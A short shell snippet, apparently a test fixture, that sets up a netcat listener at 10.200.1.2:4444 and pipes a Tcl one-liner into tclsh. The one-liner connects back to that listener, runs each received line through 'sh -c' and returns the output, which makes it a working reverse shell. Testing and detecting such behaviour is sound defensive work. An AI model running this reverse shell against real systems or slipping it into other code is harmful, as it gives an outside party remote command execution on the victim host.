# tclsh has each line that comes run by sh, and sends what that wrote.
peers() { (echo id; sleep 0.5; echo uname; sleep 0.5) | timeout 90 nc -l -N 10.200.1.2 4444 > got & listening t 4444; }
scene() { echo 'set s [socket 10.200.1.2 4444]; fconfigure $s -buffering line; while {[gets $s l] >= 0} { catch {exec sh -c $l} o; puts $s $o }' | timeout 5 tclsh; }
